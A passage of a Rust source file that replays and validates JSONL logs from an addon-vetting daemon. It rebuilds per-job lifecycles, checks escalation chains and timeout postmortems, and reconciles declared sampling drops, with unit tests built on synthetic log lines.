//! exceed the declared total. Timeout verdicts *must* carry one (the
//! daemon's engines always attribute), so a timeout with no postmortem
//! fails replay unless a declared `job_profile` suppression budget
//! covers the drop.
//!
//! **Escalations.** Under the tiered vetting ladder one job id may log
//! *multiple* `job_computed` attempts — one per rung — chained by
//! `job_escalated` records naming the rung left (`from`), the rung
//! entered (`to`), and why (`flows` or `budget`). Replay requires the
//! chain to be coherent: exactly one escalation between consecutive
//! attempts, each interleaved in `seq` order, each `from` matching the
//! tier stamped on the attempt it follows. Only the *final* attempt is
//! the job's verdict; only it carries the `job_profile` postmortem.
//!
//! **Sampled logs.** Under overload the logger may drop listed events
//! (see [`SamplePolicy`](crate::SamplePolicy)), declaring every drop in
//! `suppressed` records. [`replay_log`] accepts such logs: a job whose
//! only record is `job_enqueued` is presumed shed — its `job_rejected`
//! record fell to sampling — as long as the log's declared
//! `job_rejected` suppression budget covers it. Orphans beyond the
//! declared budget are still errors: sampling must be *declared*, never
//! silent.

use minijson::Json;
use std::collections::BTreeMap;

/// The terminal shape of one job's lifecycle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// Ran the full pipeline on a worker.
    Computed,
    /// Served from the signature cache.
    CacheHit,
    /// Shared an in-flight sibling's computation.
    Coalesced,
    /// Shed by the overload policy before entering the queue.
    Rejected,
}

/// One job's events, extracted from the log. `seq` positions come from
/// the logger's monotone counter, so ordering checks need no clocks.
#[derive(Debug, Clone, Default)]
pub struct JobTimeline {
    /// The job's request ID (`j-<n>`).
    pub job: String,
    /// Addon name from the request, if logged.
    pub name: Option<String>,
    /// `seq` of `job_enqueued`.
    pub enqueued: Option<u64>,
    /// `seq` of `job_dequeued`.
    pub dequeued: Option<u64>,
    /// `seq` of `job_computed` — the *last* one under the tiered
    /// ladder, i.e. the terminal attempt.
    pub computed: Option<u64>,
    /// Verdict string from the terminal `job_computed` (`pass`/`fail`/
    /// `leak`/`ok`/`timeout`/`error`).
    pub verdict: Option<String>,
    /// Tier stamped on the terminal `job_computed`, if any.
    pub tier: Option<String>,
    /// Every `job_computed` attempt in log order: `(seq, verdict,
    /// tier)`. Single-tier jobs have exactly one; ladder jobs one per
    /// rung tried.
    pub attempts: Vec<(u64, Option<String>, Option<String>)>,
    /// Every `job_escalated` record in log order: `(seq, from, to,
    /// reason)`.
    pub escalations: Vec<(u64, String, String, String)>,
    /// First well-formedness complaint about a `job_escalated` record
    /// (missing `from`/`to`/`reason`), surfaced by
    /// [`JobTimeline::validate`].
    pub escalation_malformed: Option<String>,
    /// `seq` of `cache_hit`.
    pub cache_hit: Option<u64>,
    /// `seq` of `job_coalesced`.
    pub coalesced: Option<u64>,
    /// Producing job's ID, from `cache_hit` or `job_coalesced`.
    pub producer: Option<String>,
    /// `seq` of `job_rejected`.
    pub rejected: Option<u64>,
    /// `seq` of `job_done`.
    pub done: Option<u64>,
    /// Wall micros from `job_done`.
    pub micros: Option<u64>,
    /// `seq` of `job_profile` (the cost-attribution postmortem).
    pub profile: Option<u64>,
    /// Verdict echoed by `job_profile` (`ok`/`timeout`).
    pub profile_verdict: Option<String>,
    /// Tier echoed by `job_profile` — under the ladder, the rung that
    /// produced the terminal outcome (a timeout postmortem names the
    /// rung whose budget was exhausted).
    pub profile_tier: Option<String>,
    /// `total_steps` from `job_profile`.
    pub profile_steps: Option<u64>,
    /// Hotspot buckets from `job_profile`: `(func, steps)`, hottest
    /// first as the daemon emitted them.
    pub hotspots: Vec<(String, u64)>,
    /// First well-formedness complaint about the `job_profile` record,
    /// if any — surfaced by [`JobTimeline::validate`].
    pub profile_malformed: Option<String>,
    /// Pipeline spans attributed to this job: `(span name, dur_us)`.
    pub spans: Vec<(String, u64)>,
    /// Every event seen for this job, in log order: `(seq, event)`.
    pub events: Vec<(u64, String)>,
}

fn get_u64(record: &Json, key: &str) -> Option<u64> {
    record[key].as_f64().map(|n| n as u64)
}

/// Groups parsed log records into per-job timelines. Records without a
/// `job` field (daemon lifecycle, protocol errors) are ignored here —
/// they narrate the daemon, not a job.
pub fn job_timelines(records: &[Json]) -> BTreeMap<String, JobTimeline> {
    let mut jobs: BTreeMap<String, JobTimeline> = BTreeMap::new();
    for record in records {
        let Some(job) = record["job"].as_str() else {
            continue;
        };
        let Some(seq) = get_u64(record, "seq") else {
            continue;
        };
        let Some(event) = record["event"].as_str() else {
            continue;
        };
        let t = jobs.entry(job.to_owned()).or_insert_with(|| JobTimeline {
            job: job.to_owned(),
            ..JobTimeline::default()
        });
        t.events.push((seq, event.to_owned()));
        if let Some(name) = record["name"].as_str() {
            t.name = Some(name.to_owned());
        }
        match event {
            "job_enqueued" => t.enqueued = Some(seq),
            "job_dequeued" => t.dequeued = Some(seq),
            "job_computed" => {
                t.computed = Some(seq);
                t.verdict = record["verdict"].as_str().map(str::to_owned);
                t.tier = record["tier"].as_str().map(str::to_owned);
                t.attempts.push((seq, t.verdict.clone(), t.tier.clone()));
            }
            "job_escalated" => {
                match (
                    record["from"].as_str(),
                    record["to"].as_str(),
                    record["reason"].as_str(),
                ) {
                    (Some(from), Some(to), Some(reason)) => {
                        t.escalations.push((
                            seq,
                            from.to_owned(),
                            to.to_owned(),
                            reason.to_owned(),
                        ));
                    }
                    _ => {
                        t.escalation_malformed =
                            Some("job_escalated missing from/to/reason".to_owned());
                    }
                }
            }
            "cache_hit" => {
                t.cache_hit = Some(seq);
                if let Some(p) = record["producer"].as_str() {
                    t.producer = Some(p.to_owned());
                }
            }
            "job_coalesced" => {
                t.coalesced = Some(seq);
                if let Some(p) = record["producer"].as_str() {
                    t.producer = Some(p.to_owned());
                }
            }
            "job_rejected" => t.rejected = Some(seq),
            "job_done" => {
                t.done = Some(seq);
                t.micros = get_u64(record, "micros");
            }
            "job_profile" => {
                t.profile = Some(seq);
                t.profile_verdict = record["verdict"].as_str().map(str::to_owned);
                t.profile_tier = record["tier"].as_str().map(str::to_owned);
                t.profile_steps = get_u64(record, "total_steps");
                if t.profile_verdict.is_none() {
                    t.profile_malformed = Some("job_profile without a verdict".to_owned());
                } else if t.profile_steps.is_none() {
                    t.profile_malformed = Some("job_profile without total_steps".to_owned());
                }
                match &record["hotspots"] {
                    Json::Arr(entries) => {
                        for h in entries {
                            let well_formed = h["ctx"].as_str().is_some()
                                && h["phase"].as_str().is_some();
                            match (h["func"].as_str(), get_u64(h, "steps")) {
                                (Some(f), Some(s)) if well_formed => {
                                    t.hotspots.push((f.to_owned(), s));
                                }
                                _ => {
                                    t.profile_malformed = Some(
                                        "job_profile hotspot missing func/ctx/phase/steps"
                                            .to_owned(),
                                    );
                                }
                            }
                        }
                    }
                    _ => {
                        t.profile_malformed =
                            Some("job_profile without a hotspots array".to_owned());
                    }
                }
            }
            "span" => {
                if let (Some(name), Some(dur)) =
                    (record["span"].as_str(), get_u64(record, "dur_us"))
                {
                    t.spans.push((name.to_owned(), dur));
                }
            }
            _ => {}
        }
    }
    jobs
}

impl JobTimeline {
    /// True when the job's only lifecycle event is `job_enqueued` — the
    /// shape a shed job leaves when its `job_rejected` record was
    /// dropped by sampling.
    pub fn enqueued_only(&self) -> bool {
        self.enqueued.is_some()
            && self.dequeued.is_none()
            && self.computed.is_none()
            && self.cache_hit.is_none()
            && self.coalesced.is_none()
            && self.rejected.is_none()
            && self.done.is_none()
    }

    /// Classifies the lifecycle and checks its internal ordering —
    /// including the `job_profile` postmortem when one is attached: it
    /// must be well-formed, follow `job_computed`, precede `job_done`,
    /// and agree with the computed verdict on whether the job timed out.
    pub fn validate(&self) -> Result<Outcome, String> {
        let job = &self.job;
        if self.profile.is_some() && self.computed.is_none() {
            return Err(format!(
                "{job}: job_profile on a lifecycle that never computed"
            ));
        }
        if !self.escalations.is_empty() && self.computed.is_none() {
            return Err(format!(
                "{job}: job_escalated on a lifecycle that never computed"
            ));
        }
        if let Some(r) = self.rejected {
            if let Some(seq) = self.dequeued.or(self.computed).or(self.done) {
                return Err(format!(
                    "{job}: rejected at seq {r} but has later lifecycle event at seq {seq}"
                ));
            }
            return Ok(Outcome::Rejected);
        }
        let done = self
            .done
            .ok_or_else(|| format!("{job}: never reached job_done"))?;
        if let Some(hit) = self.cache_hit {
            if self.computed.is_some() {
                return Err(format!("{job}: both cache_hit and job_computed"));
            }
            if self.producer.is_none() {
                return Err(format!("{job}: cache_hit without producer provenance"));
            }
            if hit >= done {
                return Err(format!("{job}: cache_hit at {hit} not before done at {done}"));
            }
            return Ok(Outcome::CacheHit);
        }
        if let Some(co) = self.coalesced {
            if self.computed.is_some() {
                return Err(format!("{job}: both job_coalesced and job_computed"));
            }
            if self.producer.is_none() {
                return Err(format!("{job}: job_coalesced without producer"));
            }
            if co >= done {
                return Err(format!("{job}: coalesced at {co} not before done at {done}"));
            }
            return Ok(Outcome::Coalesced);
        }
        let enq = self
            .enqueued
            .ok_or_else(|| format!("{job}: computed path without job_enqueued"))?;
        let deq = self
            .dequeued
            .ok_or_else(|| format!("{job}: computed path without job_dequeued"))?;
        let comp = self
            .computed
            .ok_or_else(|| format!("{job}: terminated without compute, hit, or coalesce"))?;
        if !(enq < deq && deq < comp && comp < done) {
            return Err(format!(
                "{job}: out-of-order lifecycle enq={enq} deq={deq} computed={comp} done={done}"
            ));
        }
        if self.verdict.is_none() {
            return Err(format!("{job}: job_computed without a verdict"));
        }
        // Escalation chain (tiered ladder): n attempts need exactly
        // n-1 escalations, each sitting between the attempts it links
        // in seq order, each `from` matching the tier stamped on the
        // attempt it follows. The attempt after an escalation normally
        // carries the target tier; a panic-contained error attempt may
        // be tier-less (the engine died before stamping), which is
        // tolerated — but a *wrong* tier is not.
        if let Some(complaint) = &self.escalation_malformed {
            return Err(format!("{job}: {complaint}"));
        }
        if self.escalations.len() + 1 != self.attempts.len() {
            return Err(format!(
                "{job}: {} job_computed attempts need exactly {} job_escalated \
                 records, found {}",
                self.attempts.len(),
                self.attempts.len() - 1,
                self.escalations.len()
            ));
        }
        for (i, (eseq, from, to, _reason)) in self.escalations.iter().enumerate() {
            let (aseq, _, attempt_tier) = &self.attempts[i];
            let (nseq, _, next_tier) = &self.attempts[i + 1];
            if !(aseq < eseq && eseq < nseq) {
                return Err(format!(
                    "{job}: job_escalated at {eseq} not between the attempts \
                     it links ({aseq} and {nseq})"
                ));
            }
            if attempt_tier.as_deref() != Some(from.as_str()) {
                return Err(format!(
                    "{job}: escalated from {from:?} but the attempt it follows \
                     ran tier {attempt_tier:?}"
                ));
            }
            if let Some(t) = next_tier {
                if t != to {
                    return Err(format!(
                        "{job}: escalated to {to:?} but the next attempt ran tier {t:?}"
                    ));
                }
            }
        }
        if let Some(p) = self.profile {
            if let Some(complaint) = &self.profile_malformed {
                return Err(format!("{job}: {complaint}"));
            }
            if !(comp < p && p < done) {
                return Err(format!(
                    "{job}: job_profile at {p} not between computed at {comp} and done at {done}"
                ));
            }
            let timed_out = self.verdict.as_deref() == Some("timeout");
            let profile_timed_out = self.profile_verdict.as_deref() == Some("timeout");
            if timed_out != profile_timed_out {
                return Err(format!(
                    "{job}: job_profile verdict {:?} disagrees with computed verdict {:?}",
                    self.profile_verdict, self.verdict
                ));
            }
            // Under the ladder the postmortem belongs to the terminal
            // attempt: its tier must name the rung that actually
            // produced the verdict (for a timeout, the rung whose
            // budget was exhausted).
            if self.tier.is_some() && self.profile_tier != self.tier {
                return Err(format!(
                    "{job}: job_profile tier {:?} disagrees with the terminal \
                     attempt's tier {:?}",
                    self.profile_tier, self.tier
                ));
            }
            // The top-K hotspots are a subset of the attribution
            // buckets, so their steps can never exceed the total.
            let hotspot_steps: u64 = self.hotspots.iter().map(|(_, s)| s).sum();
            let total = self.profile_steps.unwrap_or(0);
            if hotspot_steps > total {
                return Err(format!(
                    "{job}: hotspot steps {hotspot_steps} exceed total_steps {total}"
                ));
            }
        }
        Ok(Outcome::Computed)
    }
}

/// A validated replay of a (possibly sampled) log: the per-job
/// timelines plus the log's declared suppression accounting.
#[derive(Debug, Clone)]
pub struct Replay {
    /// Every job that left at least one record, validated.
    pub timelines: BTreeMap<String, JobTimeline>,
    /// Declared drops per suppressed event name, summed over the log's
    /// `suppressed` records.
    pub suppressed: BTreeMap<String, u64>,
    /// Enqueued-only orphans accepted against the `job_rejected`
    /// suppression budget (the enqueue-then-shed race under sampling).
    pub presumed_rejected: u64,
    /// Timeout-verdict jobs whose missing `job_profile` postmortem was
    /// accepted against the declared `job_profile` suppression budget.
    pub presumed_profile_sampled: u64,
}

impl Replay {
    /// The log's declared suppression budget for `event`: the total
    /// drops its counted `suppressed` records declared. Budgets are
    /// tracked independently per event (each sampled stream declares
    /// its own drops at its own rate), so one stream's budget never
    /// excuses another stream's missing records.
    pub fn budget(&self, event: &str) -> u64 {
        self.suppressed.get(event).copied().unwrap_or(0)
    }
}

/// Parses a JSONL log body, reconstructs every job timeline, and
/// validates each one — reconciling sampled logs against their declared
/// `suppressed` budgets (see the module docs). Also checks that `seq`
/// is strictly monotone across the whole log (one writer, no lost
/// records).
pub fn replay_log(text: &str) -> Result<Replay, String> {
    let mut records = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let record = Json::parse(line)
            .map_err(|e| format!("log line {}: {e}", i + 1))?;
        records.push(record);
    }
    let mut last_seq: Option<u64> = None;
    let mut suppressed: BTreeMap<String, u64> = BTreeMap::new();
    for record in &records {
        let seq = get_u64(record, "seq")
            .ok_or_else(|| format!("record without seq: {}", record.to_string_compact()))?;
        if let Some(prev) = last_seq {
            if seq <= prev {
                return Err(format!("seq not strictly monotone: {prev} then {seq}"));
            }
        }
        last_seq = Some(seq);
        if record["event"].as_str() == Some("suppressed") {
            if let (Some(event), Some(count)) =
                (record["suppressed_event"].as_str(), get_u64(record, "count"))
            {
                *suppressed.entry(event.to_owned()).or_insert(0) += count;
            }
        }
    }
    let timelines = job_timelines(&records);
    // Orphan coverage draws on job_rejected's own budget only; other
    // events' declared drops are accounted separately (see
    // [`Replay::budget`]).
    let rejected_budget = suppressed.get("job_rejected").copied().unwrap_or(0);
    let profile_budget = suppressed.get("job_profile").copied().unwrap_or(0);
    let mut presumed_rejected = 0u64;
    let mut presumed_profile_sampled = 0u64;
    for t in timelines.values() {
        match t.validate() {
            Err(e) => {
                if t.enqueued_only() && presumed_rejected < rejected_budget {
                    presumed_rejected += 1;
                    continue;
                }
                if t.enqueued_only() {
                    return Err(format!(
                        "{e} (enqueued-only orphan exceeds the declared job_rejected \
                         suppression budget of {rejected_budget})"
                    ));
                }
                return Err(e);
            }
            Ok(Outcome::Computed) => {
                // The daemon contract: every timeout verdict carries its
                // hotspot postmortem, so "why did this addon time out"
                // is answerable from the log alone. A missing postmortem
                // is only legal when sampling declared the drop.
                if t.verdict.as_deref() == Some("timeout") && t.profile.is_none() {
                    if presumed_profile_sampled < profile_budget {
                        presumed_profile_sampled += 1;
                    } else {
                        return Err(format!(
                            "{}: timeout verdict without a job_profile postmortem \
                             (beyond the declared job_profile suppression budget \
                             of {profile_budget})",
                            t.job
                        ));
                    }
                }
            }
            Ok(_) => {}
        }
    }
    Ok(Replay {
        timelines,
        suppressed,
        presumed_rejected,
        presumed_profile_sampled,
    })
}

/// [`replay_log`], returning just the timelines — the original
/// entry point most tests use.
pub fn validate_log(text: &str) -> Result<BTreeMap<String, JobTimeline>, String> {
    replay_log(text).map(|r| r.timelines)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(seq: u64, event: &str, fields: &[(&str, Json)]) -> String {
        let mut r = Json::obj();
        r.set("seq", Json::from(seq as f64));
        r.set("ts_us", Json::from(1000.0 + seq as f64));
        r.set("level", Json::from("info"));
        r.set("event", Json::from(event));
        for (k, v) in fields {
            r.set(k, v.clone());
        }
        r.to_string_compact()
    }

    #[test]
    fn reconstructs_a_computed_lifecycle() {
        let log = [
            line(0, "serve_started", &[("workers", Json::from(2.0))]),
            line(1, "job_enqueued", &[("job", Json::from("j-0")), ("name", Json::from("a.js"))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "span", &[("job", Json::from("j-0")), ("span", Json::from("phase1")), ("dur_us", Json::from(12.0))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(5, "job_done", &[("job", Json::from("j-0")), ("micros", Json::from(99.0))]),
        ]
        .join("\n");
        let timelines = validate_log(&log).expect("valid log");
        let t = &timelines["j-0"];
        assert_eq!(t.validate(), Ok(Outcome::Computed));
        assert_eq!(t.name.as_deref(), Some("a.js"));
        assert_eq!(t.verdict.as_deref(), Some("pass"));
        assert_eq!(t.micros, Some(99));
        assert_eq!(t.spans, [("phase1".to_owned(), 12)]);
    }

    #[test]
    fn cache_hit_requires_producer_provenance() {
        let with_producer = [
            line(0, "cache_hit", &[("job", Json::from("j-1")), ("producer", Json::from("j-0"))]),
            line(1, "job_done", &[("job", Json::from("j-1")), ("micros", Json::from(3.0))]),
        ]
        .join("\n");
        let timelines = validate_log(&with_producer).unwrap();
        assert_eq!(timelines["j-1"].validate(), Ok(Outcome::CacheHit));
        assert_eq!(timelines["j-1"].producer.as_deref(), Some("j-0"));

        let without = [
            line(0, "cache_hit", &[("job", Json::from("j-1"))]),
            line(1, "job_done", &[("job", Json::from("j-1"))]),
        ]
        .join("\n");
        let err = validate_log(&without).unwrap_err();
        assert!(err.contains("producer"), "{err}");
    }

    #[test]
    fn unterminated_and_out_of_order_jobs_fail() {
        let unterminated = line(0, "job_enqueued", &[("job", Json::from("j-9"))]);
        assert!(validate_log(&unterminated).unwrap_err().contains("job_done"));

        let skipped_dequeue = [
            line(0, "job_enqueued", &[("job", Json::from("j-2"))]),
            line(1, "job_computed", &[("job", Json::from("j-2")), ("verdict", Json::from("pass"))]),
            line(2, "job_done", &[("job", Json::from("j-2"))]),
        ]
        .join("\n");
        let err = validate_log(&skipped_dequeue).unwrap_err();
        assert!(err.contains("job_dequeued"), "{err}");
    }

    #[test]
    fn rejected_jobs_are_terminal() {
        let ok = line(0, "job_rejected", &[("job", Json::from("j-3")), ("reason", Json::from("overloaded"))]);
        assert_eq!(validate_log(&ok).unwrap()["j-3"].validate(), Ok(Outcome::Rejected));

        let bad = [
            line(0, "job_rejected", &[("job", Json::from("j-3"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-3"))]),
        ]
        .join("\n");
        assert!(validate_log(&bad).is_err());
    }

    #[test]
    fn seq_must_be_strictly_monotone() {
        let log = [
            line(5, "serve_started", &[]),
            line(5, "serve_shutdown", &[]),
        ]
        .join("\n");
        assert!(validate_log(&log).unwrap_err().contains("monotone"));
    }

    #[test]
    fn sampled_log_reconciles_via_declared_suppression() {
        // j-0's rejection was kept (sampled); j-1's was dropped — its
        // enqueued-only orphan is covered by the suppressed budget of 2
        // (one dropped rejection belonged to a job that never logged
        // anything at all).
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-2"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-2"))]),
            line(2, "job_computed", &[("job", Json::from("j-2")), ("verdict", Json::from("pass"))]),
            line(3, "job_done", &[("job", Json::from("j-2"))]),
            line(4, "job_rejected", &[("job", Json::from("j-0")), ("reason", Json::from("overloaded"))]),
            line(5, "job_enqueued", &[("job", Json::from("j-1"))]),
            line(6, "suppressed", &[("suppressed_event", Json::from("job_rejected")), ("count", Json::from(2.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("sampled log reconciles");
        assert_eq!(replay.suppressed.get("job_rejected"), Some(&2));
        assert_eq!(replay.presumed_rejected, 1, "one orphan presumed shed");
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Rejected));
        assert_eq!(replay.timelines["j-2"].validate(), Ok(Outcome::Computed));
        // Kept + suppressed rejections account for every shed job.
        let kept = replay
            .timelines
            .values()
            .filter(|t| t.validate() == Ok(Outcome::Rejected))
            .count() as u64;
        assert_eq!(kept + replay.suppressed["job_rejected"], 3);
    }

    #[test]
    fn orphans_beyond_the_declared_budget_still_fail() {
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_enqueued", &[("job", Json::from("j-1"))]),
            line(2, "suppressed", &[("suppressed_event", Json::from("job_rejected")), ("count", Json::from(1.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("\n");
        let err = replay_log(&log).unwrap_err();
        assert!(err.contains("suppression budget"), "{err}");

        // And with no declaration at all, orphans fail as before.
        let silent = line(0, "job_enqueued", &[("job", Json::from("j-9"))]);
        assert!(replay_log(&silent).unwrap_err().contains("job_done"));
    }

    #[test]
    fn suppression_of_other_events_grants_no_rejection_budget() {
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "suppressed", &[("suppressed_event", Json::from("span")), ("count", Json::from(50.0)), ("sample_every", Json::from(8.0))]),
        ]
        .join("\n");
        assert!(replay_log(&log).is_err(), "span budget must not excuse a lost rejection");
    }

    #[test]
    fn daemon_narration_events_ride_along() {
        // summary_lookup (incremental re-vetting statistics) and
        // alert_fired / alert_cleared (in-daemon alerting) narrate the
        // daemon, not a job: replay accepts them interleaved with job
        // lifecycles and leaves the timelines untouched.
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "summary_lookup", &[("hits", Json::from(3.0)), ("misses", Json::from(1.0)), ("reanalyzed", Json::from(2.0))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(4, "alert_fired", &[("rule", Json::from("cache-hit-ratio")), ("value", Json::from(0.1)), ("bound", Json::from(0.5))]),
            line(5, "job_done", &[("job", Json::from("j-0"))]),
            line(6, "alert_cleared", &[("rule", Json::from("cache-hit-ratio"))]),
        ]
        .join("
");
        let replay = replay_log(&log).expect("narration events are accepted");
        assert_eq!(replay.timelines.len(), 1);
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Computed));
    }

    #[test]
    fn per_event_suppression_budgets_are_tracked_independently() {
        let log = [
            line(0, "suppressed", &[("suppressed_event", Json::from("span")), ("count", Json::from(8.0)), ("sample_every", Json::from(4.0))]),
            line(1, "suppressed", &[("suppressed_event", Json::from("job_rejected")), ("count", Json::from(2.0)), ("sample_every", Json::from(100.0))]),
            line(2, "suppressed", &[("suppressed_event", Json::from("span")), ("count", Json::from(8.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("
");
        let replay = replay_log(&log).expect("declared-only log is valid");
        assert_eq!(replay.budget("span"), 16);
        assert_eq!(replay.budget("job_rejected"), 2);
        assert_eq!(replay.budget("summary_lookup"), 0);
    }

    #[test]
    fn connection_lifecycle_events_ride_along() {
        // The event-driven server narrates connections too:
        // conn_accepted / conn_closed / write_backpressure / job_deadline
        // carry a `conn` (or `job`) field but are not part of any job's
        // enqueue→done chain. Replay must accept them interleaved — and
        // a deadline-fired job still validates because the worker's late
        // completion posts the terminal job_done.
        let log = [
            line(0, "conn_accepted", &[("conn", Json::from("c-0")), ("peer", Json::from("127.0.0.1:9"))]),
            line(1, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(2, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(3, "write_backpressure", &[("conn", Json::from("c-0")), ("queued_bytes", Json::from(70000.0)), ("capacity_bytes", Json::from(65536.0))]),
            line(4, "job_deadline", &[("job", Json::from("j-0")), ("deadline_ms", Json::from(50.0))]),
            line(5, "conn_closed", &[("conn", Json::from("c-0")), ("reason", Json::from("eof"))]),
            line(6, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("pass"))]),
            line(7, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("connection events are accepted");
        assert_eq!(replay.timelines.len(), 1);
        assert_eq!(replay.timelines["j-0"].validate(), Ok(Outcome::Computed));
    }

    fn hotspot(func: &str, steps: f64) -> Json {
        let mut h = Json::obj();
        h.set("func", Json::from(func));
        h.set("ctx", Json::from("0"));
        h.set("phase", Json::from("fixpoint"));
        h.set("steps", Json::from(steps));
        h.set("time_us", Json::from(steps));
        h
    }

    fn profile_fields(job: &str, verdict: &str, total: f64, hotspots: Vec<Json>) -> Vec<(&'static str, Json)> {
        vec![
            ("job", Json::from(job)),
            ("verdict", Json::from(verdict)),
            ("total_steps", Json::from(total)),
            ("hotspots", Json::Arr(hotspots)),
        ]
    }

    #[test]
    fn timeout_with_postmortem_validates_and_exposes_hotspots() {
        let pf = profile_fields("j-0", "timeout", 100.0, vec![hotspot("hot", 60.0), hotspot("warm", 30.0)]);
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout"))]),
            line(3, "job_profile", &pf),
            line(4, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("postmortem-bearing timeout replays");
        let t = &replay.timelines["j-0"];
        assert_eq!(t.validate(), Ok(Outcome::Computed));
        assert_eq!(t.profile_steps, Some(100));
        assert_eq!(t.hotspots, [("hot".to_owned(), 60), ("warm".to_owned(), 30)]);
        assert_eq!(replay.presumed_profile_sampled, 0);
    }

    #[test]
    fn timeout_without_postmortem_fails_unless_suppression_covers_it() {
        let bare = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout"))]),
            line(3, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        let err = replay_log(&bare).unwrap_err();
        assert!(err.contains("job_profile"), "{err}");

        let declared = [
            bare.clone(),
            line(4, "suppressed", &[("suppressed_event", Json::from("job_profile")), ("count", Json::from(1.0)), ("sample_every", Json::from(4.0))]),
        ]
        .join("\n");
        let replay = replay_log(&declared).expect("declared drop reconciles");
        assert_eq!(replay.presumed_profile_sampled, 1);

        // Non-timeout verdicts never require a postmortem.
        let ok_verdict = [
            line(0, "job_enqueued", &[("job", Json::from("j-1"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-1"))]),
            line(2, "job_computed", &[("job", Json::from("j-1")), ("verdict", Json::from("pass"))]),
            line(3, "job_done", &[("job", Json::from("j-1"))]),
        ]
        .join("\n");
        assert!(replay_log(&ok_verdict).is_ok());
    }

    #[test]
    fn malformed_or_misplaced_postmortems_fail() {
        // Hotspots claiming more steps than the declared total.
        let over = profile_fields("j-0", "timeout", 10.0, vec![hotspot("hot", 60.0)]);
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout"))]),
            line(3, "job_profile", &over),
            line(4, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&log).unwrap_err().contains("exceed"), "steps cap");

        // A hotspot entry missing its fields.
        let lame = vec![("job", Json::from("j-0")), ("verdict", Json::from("timeout")), ("total_steps", Json::from(10.0)), ("hotspots", Json::Arr(vec![Json::obj()]))];
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("timeout"))]),
            line(3, "job_profile", &lame),
            line(4, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        assert!(replay_log(&log).unwrap_err().contains("hotspot"), "well-formedness");

        // Postmortem on a job that never computed.
        let floating = [
            line(0, "cache_hit", &[("job", Json::from("j-2")), ("producer", Json::from("j-0"))]),
            line(1, "job_profile", &profile_fields("j-2", "ok", 5.0, vec![])),
            line(2, "job_done", &[("job", Json::from("j-2"))]),
        ]
        .join("\n");
        assert!(replay_log(&floating).unwrap_err().contains("never computed"));

        // Verdict disagreement: profile says ok, compute said timeout.
        let liar = profile_fields("j-3", "ok", 10.0, vec![]);
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-3"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-3"))]),
            line(2, "job_computed", &[("job", Json::from("j-3")), ("verdict", Json::from("timeout"))]),
            line(3, "job_profile", &liar),
            line(4, "job_done", &[("job", Json::from("j-3"))]),
        ]
        .join("\n");
        assert!(replay_log(&log).unwrap_err().contains("disagrees"));
    }

    #[test]
    fn reconstructs_an_escalated_lifecycle() {
        // One job id, two analyze attempts: the triage rung found flows,
        // escalated, and the full rung delivered the terminal verdict.
        let log = [
            line(0, "job_enqueued", &[("job", Json::from("j-0"))]),
            line(1, "job_dequeued", &[("job", Json::from("j-0"))]),
            line(2, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("tier0"))]),
            line(3, "job_escalated", &[("job", Json::from("j-0")), ("from", Json::from("tier0")), ("to", Json::from("full")), ("reason", Json::from("flows"))]),
            line(4, "job_computed", &[("job", Json::from("j-0")), ("verdict", Json::from("ok")), ("tier", Json::from("full"))]),
            line(5, "job_done", &[("job", Json::from("j-0"))]),
        ]
        .join("\n");
        let replay = replay_log(&log).expect("escalated lifecycle replays");
        let t = &replay.timelines["j-0"];
        assert_eq!(t.validate(), Ok(Outcome::Computed));
        assert_eq!(t.attempts.len(), 2);
        assert_eq!(t.tier.as_deref(), Some("full"), "terminal tier is the last attempt's");
        assert_eq!(t.escalations.len(), 1);
        let (_, from, to, reason) = &t.escalations[0];
        assert_eq!((from.as_str(), to.as_str(), reason.as_str()), ("tier0", "full", "flows"));
    }

    #[test]
    fn escalated_timeout_postmortem_names_the_exhausting_rung() {
